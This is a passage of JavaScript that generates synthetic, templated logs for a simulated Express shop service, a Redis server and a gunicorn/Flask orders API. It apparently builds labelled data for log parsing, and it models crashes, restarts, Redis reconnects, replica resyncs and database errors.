        stack: `AxiosError: ${msg}\n    at settle (/app/node_modules/axios/dist/node/axios.cjs:2031:12)\n    at IncomingMessage.handleStreamEnd (/app/node_modules/axios/dist/node/axios.cjs:3148:11)\n    at IncomingMessage.emit (node:events:530:35)\n    at Axios.request (/app/node_modules/axios/dist/node/axios.cjs:4258:41)\n    at async ${upstream === 'recs-api' ? 'getRecommendations' : 'placeOrder'} (/app/dist/routes/${upstream === 'recs-api' ? 'recommendations' : 'checkout'}.js:${r.int(20, 90)}:${r.int(5, 30)})`
      }
      P(c, 'req_errored', 50, { req, res, err, responseTime: rt })
    } else P(c, 'req_completed', st >= 400 ? 40 : 30, { req, res, responseTime: rt })
  }
  function aborted(c) {
    const r = c.r
    const req = reqObj(c, 'GET', `/api/products?category=${r.pick(CATS)}&page=1`)
    P(c, 'req_aborted', 40, {
      req,
      res: { statusCode: 200, headers: { 'x-powered-by': 'Express' } },
      responseTime: r.int(2000, 30000)
    })
  }
  function cart(c) {
    const r = c.r
    const id = r.uuid()
    if (r.chance(0.3))
      P(c, 'cache_lookup', 10, { module: 'cart', key: `cart:${id}`, hit: r.chance(0.7) })
    P(c, 'cart_updated', 30, { module: 'cart', cartId: id, items: r.int(1, 9) })
    request(c, [...ROUTES[1][1], 200])
  }
  function checkout(c) {
    const r = c.r
    const oid = `ord_${r.alnum(12)}`
    P(c, 'checkout_started', 30, {
      module: 'checkout',
      orderId: oid,
      amount: r.int(999, 40000) / 100,
      currency: r.pick(['EUR', 'EUR', 'USD'])
    })
    if (r.chance(0.25))
      P(c, 'upstream_retry', 30, {
        module: 'http',
        upstream: 'orders-api',
        status: r.pick([502, 503, 504]),
        attempt: 2
      })
    if (r.chance(0.12)) {
      P(c, 'checkout_failed', 40, {
        module: 'checkout',
        orderId: oid,
        reason: r.pick(['payment_declined', 'out_of_stock', 'address_invalid'])
      })
      return request(c, [...ROUTES[6][1], 402])
    }
    P(c, 'checkout_completed', 30, {
      module: 'checkout',
      orderId: oid,
      durationMs: r.int(300, 2400)
    })
    request(c, [...ROUTES[6][1], 200])
  }
  function redisFlap(c) {
    const r = c.r
    const host = '10.0.14.21'
    const reset = r.chance(0.5)
    const err = reset
      ? {
          type: 'Error',
          message: 'read ECONNRESET',
          stack:
            'Error: read ECONNRESET\n    at TCP.onStreamRead (node:internal/stream_base_commons:216:20)',
          errno: -104,
          code: 'ECONNRESET',
          syscall: 'read'
        }
      : {
          type: 'Error',
          message: `connect ECONNREFUSED ${host}:6379`,
          stack: `Error: connect ECONNREFUSED ${host}:6379\n    at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1615:16)`,
          errno: -111,
          code: 'ECONNREFUSED',
          syscall: 'connect',
          address: host,
          port: 6379
        }
    P(c, 'redis_error', 50, { module: 'redis', err })
    if (!reset) {
      plain(
        c,
        'ioredis',
        `[ioredis] Unhandled error event: Error: connect ECONNREFUSED ${host}:6379`
      )
      plain(
        c,
        'stack_frame',
        'at TCPConnectWrap.afterConnect [as oncomplete] (node:net:1615:16)',
        '    '
      )
    }
    P(c, 'redis_closed', 30, { module: 'redis' })
    for (let i = 1; i <= r.int(1, 3); i++) {
      P(c, 'redis_reconnect', 40, {
        module: 'redis',
        attempt: i,
        delayMs: Math.min(2000, 50 * i * i)
      })
      c.tick(r.int(100, 2000))
    }
    P(c, 'redis_connected', 30, { module: 'redis', host })
  }
  function startup(c) {
    const r = c.r
    plain(c, 'npm_start', '> shop-web@2.14.0 start')
    plain(c, 'npm_cmd', '> node --enable-source-maps dist/server.js')
    c.tick(r.int(300, 900))
    plain(
      c,
      'deprecation',
      `(node:${c.S.pid}) [DEP0040] DeprecationWarning: The \`punycode\` module is deprecated. Please use a userland alternative instead.`
    )
    plain(
      c,
      'trace_hint',
      '(Use `node --trace-deprecation ...` to show where the warning was created)'
    )
    const flags = { newCheckout: r.chance(0.5), recsV2: true, freeShippingBanner: false }
    if (r.chance(0.5)) flags.giftWrap = true
    P(c, 'flags', 30, { module: 'flags', flags })
    P(c, 'redis_connected', 30, { module: 'redis', host: '10.0.14.21' })
    P(c, 'listening', 30, { port: 3000, env: 'production' })
  }
  function crash(c) {
    const err = {
      type: 'TypeError',
      message: "Cannot read properties of undefined (reading 'sku')",
      stack:
        "TypeError: Cannot read properties of undefined (reading 'sku')\n    at toLineItem (/app/dist/routes/cart.js:48:31)\n    at Array.map (<anonymous>)\n    at /app/dist/routes/cart.js:61:36\n    at process.processTicksAndRejections (node:internal/process/task_queues:105:5)"
    }
    P(c, 'uncaught', 60, { err })
    const npm = (k, msg) => plain(c, k, msg, 'npm error ', 'error')
    npm('npm_err_code', 'code 1')
    npm('npm_err_path', 'path /app')
    npm('npm_err_failed', 'command failed')
    npm('npm_err_cmd', 'command sh -c node --enable-source-maps dist/server.js')
    npm(
      'npm_err_log',
      `A complete log of this run can be found in: /root/.npm/_logs/${isoMs(c.t).replace(/:/g, '_').replace('.', '_')}-debug-0.log`
    )
    const note = (k, msg) => plain(c, k, msg, 'npm notice ', 'notice')
    note('npm_notice_new', 'New major version of npm available! 10.9.2 -> 11.2.0')
    note('npm_notice_changelog', 'Changelog: https://github.com/npm/cli/releases/tag/v11.2.0')
    note('npm_notice_update', 'To update run: npm install -g npm@11.2.0')
    c.tick(c.r.int(20000, 40000))
    c.S.host = `ip-10-0-${c.r.int(1, 3)}-${c.r.int(10, 250)}.ec2.internal`
    c.S.reqId = 0
    startup(c)
  }
  function redeploy(c) {
    P(c, 'shutdown', 30, { signal: 'SIGTERM' })
    P(c, 'closed', 30, {})
    c.tick(c.r.int(20000, 60000))
    c.S.host = `ip-10-0-${c.r.int(1, 3)}-${c.r.int(10, 250)}.ec2.internal`
    c.S.reqId = 0
    startup(c)
  }
  return {
    name: 'node-express',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(20, 4000),
    intra: 6,
    // child-logger bindings ("module") are fields like the others
    templates: T.map(([k, tpl]) => [k, tpl.replace(/"module":"[a-z]+"/, '"module":"<*>"')]),
    init: (c) => {
      c.S.pid = 18
      c.S.host = 'ip-10-0-2-118.ec2.internal'
      c.S.reqId = 0
    },
    filler: (c) => request(c),
    episodes: [
      { at: [0], run: startup },
      { at: [0.58], run: crash },
      { at: [0.86], run: redeploy },
      { w: 60, run: (c) => request(c) },
      { w: 8, run: cart },
      { w: 5, run: checkout },
      { w: 2, run: aborted },
      {
        w: 6,
        run: (c) =>
          P(c, 'session_refreshed', 20, { module: 'auth', userId: `usr_${c.r.alnum(10)}` })
      },
      {
        w: 3,
        run: (c) =>
          P(c, 'login_rejected', 40, {
            module: 'auth',
            reason: c.r.pick(['bad_password', 'unknown_user', 'locked']),
            ip: clientIp(c.r)
          })
      },
      {
        w: 4,
        run: (c) => {
          if (c.r.chance(0.85))
            P(c, 'budget_ok', 30, {
              module: 'slo',
              budgetRemaining: c.r.int(40, 99) / 100,
              window: '30d'
            })
          else
            P(c, 'budget_burn', 40, {
              module: 'slo',
              budgetRemaining: c.r.int(5, 40) / 100,
              burnRate: c.r.int(60, 160) / 10,
              window: '1h'
            })
        }
      },
      {
        w: 3,
        run: (c) =>
          P(c, 'slow_query', 40, {
            module: 'catalog',
            durationMs: c.r.int(800, 5000),
            query: `category=${c.r.pick(CATS)} sort=${c.r.pick(['price_asc', 'popularity', 'newest'])} page=${c.r.int(1, 9)}`
          })
      },
      {
        w: 2,
        run: (c) =>
          P(c, 'catalog_refreshed', 30, {
            module: 'catalog',
            count: c.r.int(4800, 5200),
            durationMs: c.r.int(300, 1800)
          })
      },
      { n: 2, run: redisFlap }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// redis: Redis 7.2 in a container on ECS (loglevel verbose, RDB snapshots and AOF on, one
// replica). 'pid:role dd Mon yyyy hh:mm:ss.mmm <level char> msg'.

function redis() {
  const CI =
    'id=<*> addr=<*> laddr=<*> fd=<*> name=<*> age=<*> idle=<*> flags=<*> db=<*> sub=<*> psub=<*> ssub=<*> multi=<*> watch=<*> qbuf=<*> qbuf-free=<*> argv-mem=<*> multi-mem=<*> rbs=<*> rbp=<*> obl=<*> oll=<*> omem=<*> tot-mem=<*> events=<*> cmd=<*> user=<*> redir=<*> resp=<*> lib-name=<*> lib-ver=<*>'
  const T = [
    ['accepted', '-', 'Accepted <*>'],
    ['closed', '-', `Client ${CI} closed connection`],
    ['reset', '-', 'Reading from client: Connection reset by peer'],
    ['idle', '-', 'Closing idle client'],
    ['changes', '*', '<*> changes in <*> seconds. Saving...'],
    ['bgsave_started', '*', 'Background saving started by pid <*>'],
    ['db_saved', '*', 'DB saved on disk'],
    ['cow_rdb', '*', 'Fork CoW for RDB: current <*> MB, peak <*> MB, average <*> MB'],
    ['bgsave_ok', '*', 'Background saving terminated with success'],
    ['replica_lost', '#', 'Connection with replica <*> lost.'],
    ['replica_sync', '*', 'Replica <*> asks for synchronization'],
    [
      'partial_ok',
      '*',
      'Partial resynchronization request from <*> accepted. Sending <*> bytes of backlog starting from offset <*>.'
    ],
    ['full_resync', '*', 'Full resync requested by replica <*>'],
    ['bgsave_sync', '*', 'Starting BGSAVE for SYNC with target: <*>'],
    ['rdb_transfer', '*', 'Background RDB transfer started by pid <*>'],
    ['diskless_done', '*', 'Diskless rdb transfer, done reading from pipe, <*> replicas still up.'],
    ['rdb_transfer_ok', '*', 'Background RDB transfer terminated with success'],
    [
      'streamed',
      '*',
      'Streamed RDB transfer with replica <*> succeeded (socket). Waiting for REPLCONF ACK from replica to enable streaming'
    ],
    ['sync_ok', '*', 'Synchronization with replica <*> succeeded'],
    ['aof_start', '*', 'Starting automatic rewriting of AOF on <*>% growth'],
    ['aof_incr', '*', 'Creating AOF incr file <*> on background rewrite'],
    ['aof_bg', '*', 'Background append only file rewriting started by pid <*>'],
    ['aof_tmp', '*', 'Successfully created the temporary AOF base file <*>'],
    ['cow_aof', '*', 'Fork CoW for AOF rewrite: current <*> MB, peak <*> MB, average <*> MB'],
    ['aof_ok', '*', 'Background AOF rewrite terminated with success'],
    ['aof_renamed', '*', 'Successfully renamed the temporary AOF base file <*> into <*>'],
    ['aof_history', '*', 'Removing the history file <*> in the background'],
    ['aof_finished', '*', 'Background AOF rewrite finished successfully'],
    [
      'aof_slow',
      '*',
      'Asynchronous AOF fsync is taking too long (disk is busy?). Writing the AOF buffer without waiting for fsync to complete, this may slow down Redis.'
    ],
    [
      'output_limit',
      '#',
      `Client ${CI} scheduled to be closed ASAP for overcoming of output buffer limits.`
    ],
    ['sigterm', '#', 'Received SIGTERM scheduling shutdown...'],
    ['user_shutdown', '#', 'User requested shutdown...'],
    ['fsync_aof', '*', 'Calling fsync() on the AOF file.'],
    ['final_rdb', '*', 'Saving the final RDB snapshot before exiting.'],
    ['pidfile', '*', 'Removing the pid file.'],
    ['bye', '#', 'Redis is now ready to exit, bye bye...'],
    ['starting', '#', 'oO0OoO0OoO0Oo Redis is starting oO0OoO0OoO0Oo'],
    [
      'version',
      '#',
      'Redis version=<*>, bits=<*>, commit=<*>, modified=<*>, pid=<*>, just started'
    ],
    ['config_loaded', '#', 'Configuration loaded'],
    ['monotonic', '*', 'monotonic clock: POSIX clock_gettime'],
    ['running', '*', 'Running mode=<*>, port=<*>.'],
    [
      'backlog_warn',
      '#',
      'WARNING: The TCP backlog setting of <*> cannot be enforced because /proc/sys/net/core/somaxconn is set to the lower value of <*>.'
    ],
    ['server_init', '*', 'Server initialized'],
    [
      'overcommit',
      '#',
      "WARNING Memory overcommit must be enabled! Without it, a background save or replication may fail under low memory condition. Being disabled, it can also cause failures without low memory condition, see https://github.com/jemalloc/jemalloc/issues/1328. To fix this issue add 'vm.overcommit_memory = 1' to /etc/sysctl.conf and then reboot or run the command 'sysctl vm.overcommit_memory=1' for this to take effect."
    ],
    ['aof_base_read', '*', 'Reading RDB base file on AOF loading...'],
    ['loading_rdb', '*', 'Loading RDB produced by version <*>'],
    ['rdb_age', '*', 'RDB age <*> seconds'],
    ['rdb_mem', '*', 'RDB memory usage when created <*> Mb'],
    ['rdb_is_base', '*', 'RDB is base AOF'],
    ['done_loading', '*', 'Done loading RDB, keys loaded: <*>, keys expired: <*>.'],
    ['loaded_base', '*', 'DB loaded from base file <*>: <*> seconds'],
    ['loaded_incr', '*', 'DB loaded from incr file <*>: <*> seconds'],
    ['loaded_aof', '*', 'DB loaded from append only file: <*> seconds'],
    ['opening_incr', '*', 'Opening AOF incr file <*> on server start'],
    ['ready', '*', 'Ready to accept connections tcp']
  ]
  const RL = { '.': 'debug', '-': 'info', '*': 'notice', '#': 'warning' }
  const ch = new Map(T.map(([k, c]) => [k, c]))
  function R(c, k, msg, pid = 1, role = 'M') {
    const p = tp(c.t)
    const x = ch.get(k)
    c.out(k, RL[x], `${pid}:${role} ${p.D} ${p.Mon} ${p.Y} ${p.h}:${p.m}:${p.s}.${p.ms} ${x} `, msg)
  }
  const CLIENTS = [
    [
      50,
      { net: [10, 11], name: '', lib: ['', ''], cmd: ['get', 'set', 'expire', 'hgetall', 'mget'] }
    ],
    [
      30,
      {
        net: [1, 3],
        name: 'shop-web',
        lib: ['ioredis', '5.4.2'],
        cmd: ['get', 'setex', 'del', 'evalsha']
      }
    ],
    [
      20,
      {
        net: [12, 13],
        name: 'payments-worker',
        lib: ['redis-py', '5.2.1'],
        cmd: ['brpop', 'lpush', 'incr', 'set']
      }
    ]
  ]
  function client(c) {
    const r = c.r
    const a = r.wpick(CLIENTS)
    c.S.cid += r.int(1, 30)
    return {
      ...a,
      id: c.S.cid,
      addr: `${vpcIp(r, a.net)}:${r.int(32768, 60999)}`,
      fd: r.int(8, 120)
    }
  }
  function info(c, cl, o = {}) {
    const r = c.r
    const qbuf = o.qbuf ?? 0
    return `id=${cl.id} addr=${cl.addr} laddr=10.0.14.21:6379 fd=${cl.fd} name=${cl.name} age=${o.age ?? r.int(0, 7200)} idle=${o.idle ?? r.int(0, 60)} flags=${o.flags ?? 'N'} db=0 sub=${o.sub ?? 0} psub=0 ssub=0 multi=-1 watch=0 qbuf=${qbuf} qbuf-free=${qbuf ? 20474 - qbuf : 0} argv-mem=0 multi-mem=0 rbs=${r.pick([1024, 1024, 2048, 16384])} rbp=${r.pick([0, 5, 42])} obl=0 oll=${o.oll ?? 0} omem=${o.omem ?? 0} tot-mem=${o.totmem ?? r.int(1800, 22000)} events=${o.events ?? 'r'} cmd=${o.cmd ?? r.pick(cl.cmd)} user=default redir=-1 resp=${cl.lib[0] === 'ioredis' ? 2 : r.pick([2, 3])} lib-name=${cl.lib[0]} lib-ver=${cl.lib[1]}`
  }
  const child = (c) => c.r.int(300, 9000)
  function bgsave(c) {
    const r = c.r
    const pid = child(c)
    const [n, secs] = r.pick([
      [1, 3600],
      [100, 300],
      [10000, 60]
    ])
    R(c, 'changes', `${n + r.int(0, n * 3)} changes in ${secs} seconds. Saving...`)
    R(c, 'bgsave_started', `Background saving started by pid ${pid}`)
    c.tick(r.int(100, 900))
    R(c, 'db_saved', 'DB saved on disk', pid, 'C')
    const cur = r.int(0, 3)
    R(
      c,
      'cow_rdb',
      `Fork CoW for RDB: current ${cur} MB, peak ${cur + r.int(0, 2)} MB, average ${Math.max(0, cur - 1)} MB`,
      pid,
      'C'
    )
    R(c, 'bgsave_ok', 'Background saving terminated with success')
  }
  function aofRewrite(c) {
    const r = c.r
    const pid = child(c)
    const n = c.S.aof
    R(c, 'aof_start', `Starting automatic rewriting of AOF on ${r.int(100, 140)}% growth`)
    R(
      c,
      'aof_incr',
      `Creating AOF incr file appendonly.aof.${n + 1}.incr.aof on background rewrite`
    )
    R(c, 'aof_bg', `Background append only file rewriting started by pid ${pid}`)
    c.tick(r.int(200, 1500))
    R(
      c,
      'aof_tmp',
      `Successfully created the temporary AOF base file temp-rewriteaof-bg-${pid}.aof`,
      pid,
      'C'
    )
    const cur = r.int(0, 4)
    R(
      c,
      'cow_aof',
      `Fork CoW for AOF rewrite: current ${cur} MB, peak ${cur + r.int(0, 3)} MB, average ${Math.max(0, cur - 1)} MB`,
      pid,
      'C'
    )
    R(c, 'aof_ok', 'Background AOF rewrite terminated with success')
    R(
      c,
      'aof_renamed',
      `Successfully renamed the temporary AOF base file temp-rewriteaof-bg-${pid}.aof into appendonly.aof.${n + 1}.base.rdb`
    )
    R(c, 'aof_history', `Removing the history file appendonly.aof.${n}.incr.aof in the background`)
    R(c, 'aof_history', `Removing the history file appendonly.aof.${n}.base.rdb in the background`)
    R(c, 'aof_finished', 'Background AOF rewrite finished successfully')
    c.S.aof = n + 1
  }
  function replica(c) {
    const r = c.r
    const rep = `10.0.15.${r.int(20, 30)}:6379`
    R(c, 'replica_lost', `Connection with replica ${rep} lost.`)
    c.tick(r.int(2000, 30000))
    R(c, 'replica_sync', `Replica ${rep} asks for synchronization`)
    if (c.S.partial) {
      c.S.partial = false
      R(
        c,
        'partial_ok',
        `Partial resynchronization request from ${rep} accepted. Sending ${r.int(200, 90000)} bytes of backlog starting from offset ${r.int(10000000, 99999999)}.`
      )
      return
    }
    const pid = child(c)
    R(c, 'full_resync', `Full resync requested by replica ${rep}`)
    R(c, 'bgsave_sync', 'Starting BGSAVE for SYNC with target: replicas sockets')
    R(c, 'rdb_transfer', `Background RDB transfer started by pid ${pid}`)
    R(
      c,
      'cow_rdb',
      `Fork CoW for RDB: current ${r.int(0, 2)} MB, peak ${r.int(2, 4)} MB, average 1 MB`,
      pid,
      'C'
    )
    R(c, 'diskless_done', 'Diskless rdb transfer, done reading from pipe, 1 replicas still up.')
    R(c, 'rdb_transfer_ok', 'Background RDB transfer terminated with success')
    R(
      c,
      'streamed',
      `Streamed RDB transfer with replica ${rep} succeeded (socket). Waiting for REPLCONF ACK from replica to enable streaming`
    )
    R(c, 'sync_ok', `Synchronization with replica ${rep} succeeded`)
  }
  function startup(c) {
    const r = c.r
    R(c, 'starting', 'oO0OoO0OoO0Oo Redis is starting oO0OoO0OoO0Oo')
    R(
      c,
      'version',
      'Redis version=7.2.7, bits=64, commit=00000000, modified=0, pid=1, just started'
    )
    R(c, 'config_loaded', 'Configuration loaded')
    R(c, 'monotonic', 'monotonic clock: POSIX clock_gettime')
    R(c, 'running', 'Running mode=standalone, port=6379.')
    R(
      c,
      'backlog_warn',
      'WARNING: The TCP backlog setting of 511 cannot be enforced because /proc/sys/net/core/somaxconn is set to the lower value of 128.'
    )
    R(c, 'server_init', 'Server initialized')
    R(c, 'overcommit', T.find((t) => t[0] === 'overcommit')[2])
    const n = c.S.aof
    R(c, 'aof_base_read', 'Reading RDB base file on AOF loading...')
    R(c, 'loading_rdb', 'Loading RDB produced by version 7.2.7')
    R(c, 'rdb_age', `RDB age ${r.int(30, 4000)} seconds`)
    R(c, 'rdb_mem', `RDB memory usage when created ${f2(10 + r.next() * 8)} Mb`)
    R(c, 'rdb_is_base', 'RDB is base AOF')
    R(
      c,
      'done_loading',
      `Done loading RDB, keys loaded: ${r.int(40000, 60000)}, keys expired: ${r.int(0, 40)}.`
    )
    const b = r.int(40, 90) / 1000
    const i = r.int(1, 9) / 1000
    R(c, 'loaded_base', `DB loaded from base file appendonly.aof.${n}.base.rdb: ${f3(b)} seconds`)
    R(c, 'loaded_incr', `DB loaded from incr file appendonly.aof.${n}.incr.aof: ${f3(i)} seconds`)
    R(c, 'loaded_aof', `DB loaded from append only file: ${f3(b + i + 0.001)} seconds`)
    R(c, 'opening_incr', `Opening AOF incr file appendonly.aof.${n}.incr.aof on server start`)
    R(c, 'ready', 'Ready to accept connections tcp')
  }
  function restart(c) {
    R(c, 'sigterm', 'Received SIGTERM scheduling shutdown...')
    R(c, 'user_shutdown', 'User requested shutdown...')
    R(c, 'fsync_aof', 'Calling fsync() on the AOF file.')
    R(c, 'final_rdb', 'Saving the final RDB snapshot before exiting.')
    R(c, 'db_saved', 'DB saved on disk')
    R(c, 'pidfile', 'Removing the pid file.')
    R(c, 'bye', 'Redis is now ready to exit, bye bye...')
    c.tick(c.r.int(8000, 20000))
    startup(c)
  }
  return {
    name: 'redis',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(20, 7000),
    intra: 3,
    templates: T.map(([k, , tpl]) => [k, tpl]),
    init: (c) => {
      c.S.cid = 1000
      c.S.aof = 7
      c.S.partial = true
    },
    filler: (c) => R(c, 'accepted', `Accepted ${client(c).addr}`),
    episodes: [
      { at: [0], run: startup },
      { at: [0.62], run: restart },
      { w: 40, run: (c) => R(c, 'accepted', `Accepted ${client(c).addr}`) },
      { w: 30, run: (c) => R(c, 'closed', `Client ${info(c, client(c))} closed connection`) },
      { w: 8, run: (c) => R(c, 'reset', 'Reading from client: Connection reset by peer') },
      { w: 3, run: (c) => R(c, 'idle', 'Closing idle client') },
      { w: 4, run: bgsave },
      { n: 2, run: aofRewrite },
      {
        n: 3,
        run: (c) =>
          R(
            c,
            'aof_slow',
            'Asynchronous AOF fsync is taking too long (disk is busy?). Writing the AOF buffer without waiting for fsync to complete, this may slow down Redis.'
          )
      },
      { n: 2, run: replica },
      {
        n: 2,
        run: (c) => {
          const cl = client(c)
          cl.name = 'shop-web'
          cl.lib = ['ioredis', '5.4.2']
          R(
            c,
            'output_limit',
            `Client ${info(c, cl, { flags: 'P', sub: 1, oll: c.r.int(900, 4000), omem: c.r.int(33554432, 67108864), totmem: c.r.int(33600000, 67200000), events: 'rw', cmd: 'subscribe' })} scheduled to be closed ASAP for overcoming of output buffer limits.`
          )
        }
      }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// gunicorn: a Flask API served by gunicorn 23 (gthread workers) in a container on ECS; the
// container's output holds gunicorn's error log, its access log (default format) and the app's
// own logging ('%(asctime)s %(levelname)s [%(name)s] %(message)s'). The image ships bytecode only
// (compileall, sources removed), so tracebacks have no source lines; each traceback line is its
// own event.

function gunicorn() {
  const T = [
    ['g_starting', 'Starting gunicorn <*>'],
    ['g_listening', 'Listening at: <*> (<*>)'],
    ['g_worker', 'Using worker: <*>'],
    ['g_booting', 'Booting worker with pid: <*>'],
    ['g_signal', 'Handling signal: <*>'],
    ['g_worker_exiting', 'Worker exiting (pid: <*>)'],
    ['g_shutdown', 'Shutting down: Master'],
    ['g_reason', 'Reason: <*>'],
    ['g_timeout', 'WORKER TIMEOUT (pid:<*>)'],
    ['g_sigkill', 'Worker (pid:<*>) was sent SIGKILL! Perhaps out of memory?'],
    ['g_exited', 'Worker (pid:<*>) exited with code <*>'],
    ['g_autorestart', 'Autorestarting worker after current request.'],
    ['g_graceful_timeout', 'Worker graceful timeout (pid:<*>)'],
    ['g_error_handling', 'Error handling request <*>'],
    ['g_exception_worker', 'Exception in worker process'],
    ['g_access', '"<*>" <*> <*> "<*>" "<*>"'],
    ['a_created', 'Created order <*> for customer <*> (<*> items)'],
    ['a_not_found', 'Order <*> not found'],
    ['a_cache', 'Cache warm: loaded <*> products in <*>s'],
    ['a_retry', 'Retrying charge for order <*> after ERROR from upstream stripe: <*>'],
    ['a_charge_failed', 'Stripe charge failed for order <*>: <*>'],
    ['a_pool', 'DB pool exhausted, waited <*>s for a connection'],
    ['a_slow', 'Slow request <*> <*> took <*> ms'],
    ['a_health', 'Health check ok: db=<*> redis=<*> latency_ms=<*>'],
    ['a_jwt', 'JWT validation failed: <*>'],
    ['a_enqueued', 'Task <*> enqueued to <*>'],
    ['a_invalidate', 'Invalidate connection <*> (reason: <*>)'],
    ['a_exception', 'Exception on <*> [<*>]'],
    ['t_traceback', 'Traceback (most recent call last):'],
    ['t_file', 'File "<*>", line <*>, in <*>'],
    ['t_psycopg', 'psycopg2.OperationalError: server closed the connection unexpectedly'],
    ['t_prob1', 'This probably means the server terminated abnormally'],
    ['t_prob2', 'before or while processing the request.'],
    ['t_cause', 'The above exception was the direct cause of the following exception:'],
    [
      't_sqla',
      'sqlalchemy.exc.OperationalError: (psycopg2.OperationalError) server closed the connection unexpectedly'
    ],
    ['t_sql', '[SQL: <*>]'],
    ['t_params', '[parameters: <*>]'],
    ['t_background', '(Background on this error at: <*>)'],
    ['t_connreset', 'ConnectionResetError: [Errno 104] Connection reset by peer'],
    ['t_systemexit', 'SystemExit: 1'],
    ['t_modnotfound', "ModuleNotFoundError: No module named '<*>'"]
  ]
  const PY = {
    DEBUG: 'debug',
    INFO: 'info',
    WARNING: 'warning',
    ERROR: 'error',
    CRITICAL: 'critical'
  }
  const G = (c, k, L, pid, msg) => c.out(k, PY[L], `[${ymdHms(c.t)} +0000] [${pid}] [${L}] `, msg)
  const A = (c, k, L, logger, msg) =>
    c.out(k, PY[L], `${ymdHms(c.t)},${tp(c.t).ms} ${L} [${logger}] `, msg)
  const SP = '/usr/local/lib/python3.12/site-packages'
  const F = (c, L, file, line, fn) =>
    c.out('t_file', PY[L], '  ', `File "${file}", line ${line}, in ${fn}`)
  const X = (c, k, L, msg, header = '') => c.out(k, PY[L], header, msg)
  const wpid = (c) => c.r.pick(c.S.workers)
  function access(c, m, p, st, agent) {
    const r = c.r
    const b =
      st === 204
        ? '0'
        : st >= 500
          ? '265'
          : st >= 400
            ? String(r.int(30, 120))
            : String(r.int(2, 9000))
    const ref = agent && agent.startsWith('Mozilla') ? 'https://shop.example.com/' : '-'
    c.out(
      'g_access',
      'info',
      `${vpcIp(r, [1, 3])} - - [${clf(c.t)}] `,
      `"${m} ${p} HTTP/1.1" ${st} ${b} "${ref}" "${agent ?? r.pick(['python-requests/2.32.3', 'Go-http-client/1.1', 'okhttp/4.12.0', UAS[1][1]])}"`
    )
  }
  function plainReq(c) {
    const r = c.r
    const v = r.wpick([
      [30, ['GET', `/api/orders/${r.int(900000, 999999)}`, 200]],
      [
        15,
        [
          'GET',
          `/api/orders?customer=${r.int(10000, 99999)}&status=${r.pick(['open', 'shipped', 'all'])}`,
          200
        ]
      ],
      [8, ['PATCH', `/api/orders/${r.int(900000, 999999)}`, r.pick([200, 200, 409])]],
      [6, ['GET', `/api/orders/${r.int(900000, 999999)}/invoice.pdf`, 200]],
      [4, ['DELETE', `/api/orders/${r.int(900000, 999999)}/hold`, 204]]
    ])
    access(c, ...v)
  }
  function health(c) {
    if (c.r.chance(0.35))
      A(
        c,
        'a_health',
        'DEBUG',
        'orders.health',
        `Health check ok: db=up redis=up latency_ms=${c.r.int(1, 9)}`
      )
    access(c, 'GET', '/health', 200, 'ELB-HealthChecker/2.0')
  }
  function createOrder(c) {
    const r = c.r
    const oid = r.int(900000, 999999)
    if (r.chance(0.15))
      A(
        c,
        'a_retry',
        'INFO',
        'orders.payments',
        `Retrying charge for order ${oid} after ERROR from upstream stripe: ${r.pick(['502 Bad Gateway', 'rate_limit', 'api_connection_error'])}`
      )
    if (r.chance(0.08)) {
      A(
        c,
        'a_charge_failed',
        'ERROR',
        'orders.payments',
        `Stripe charge failed for order ${oid}: ${r.pick(['Your card was declined.', 'Request req_' + r.alnum(14) + ': Your card has insufficient funds.'])}`
      )
      return access(c, 'POST', '/api/orders', 402)
    }
    A(
      c,
      'a_created',
      'INFO',
      'orders.api',
      `Created order ${oid} for customer ${r.int(10000, 99999)} (${r.int(1, 6)} items)`
    )
    if (r.chance(0.6))
      A(
        c,
        'a_enqueued',
        'DEBUG',
        'orders.tasks',
        `Task ${r.pick(['send_confirmation', 'reserve_stock', 'index_order'])}[${r.uuid()}] enqueued to ${r.pick(['orders-default', 'orders-email'])}`
      )
    access(c, 'POST', '/api/orders', 201)
  }
  function notFound(c) {
    const oid = c.r.int(100000, 899999)
    A(c, 'a_not_found', 'INFO', 'orders.api', `Order ${oid} not found`)
    access(c, 'GET', `/api/orders/${oid}`, 404)
  }
  function jwt(c) {
    A(
      c,
      'a_jwt',
      'WARNING',
      'orders.auth',
      c.r.pick([
        'JWT validation failed: Signature has expired',
        'JWT validation failed: Invalid audience',
        'JWT validation failed: Not enough segments'
      ])
    )
    access(c, 'GET', `/api/orders/${c.r.int(900000, 999999)}`, 401)
  }
  function slow(c) {
    const p = `/api/reports/export?from=2025-03-0${c.r.int(1, 9)}&format=csv`
    A(
      c,
      'a_slow',
      'WARNING',
      'orders.middleware',
      `Slow request GET ${p} took ${c.r.int(2000, 9000)} ms`
    )
    access(c, 'GET', p, 200)
  }
  function dbError(c) {
    const r = c.r
    const oid = r.int(900000, 999999)
    const path = `/api/orders/${oid}`
    A(
      c,
      'a_invalidate',
      'INFO',
      'sqlalchemy.pool.impl.QueuePool',
      `Invalidate connection <connection object at 0x7f${r.hex(10)}; dsn: 'user=orders password=xxx dbname=orders host=orders-db.cluster-c1x2y3z4w5v6.us-east-1.rds.amazonaws.com port=5432 sslmode=require', closed: 2> (reason: OperationalError:server closed the connection unexpectedly)`
    )
    A(c, 'a_exception', 'ERROR', 'orders.app', `Exception on ${path} [GET]`)
    X(c, 't_traceback', 'ERROR', 'Traceback (most recent call last):')
    F(c, 'ERROR', `${SP}/sqlalchemy/engine/base.py`, 1967, '_exec_single_context')
    F(c, 'ERROR', `${SP}/sqlalchemy/engine/default.py`, 941, 'do_execute')
    X(
      c,
      't_psycopg',
      'ERROR',
      'psycopg2.OperationalError: server closed the connection unexpectedly'
    )
    X(c, 't_prob1', 'ERROR', 'This probably means the server terminated abnormally', '\t')
    X(c, 't_prob2', 'ERROR', 'before or while processing the request.', '\t')
    X(c, 't_cause', 'ERROR', 'The above exception was the direct cause of the following exception:')
    X(c, 't_traceback', 'ERROR', 'Traceback (most recent call last):')
    F(c, 'ERROR', `${SP}/flask/app.py`, 1511, 'wsgi_app')
    F(c, 'ERROR', `${SP}/flask/app.py`, 919, 'full_dispatch_request')
    F(c, 'ERROR', `${SP}/flask/app.py`, 902, 'dispatch_request')
    F(c, 'ERROR', '/app/orders/api.py', 58, 'get_order')
    F(c, 'ERROR', `${SP}/sqlalchemy/orm/session.py`, 3701, 'get')
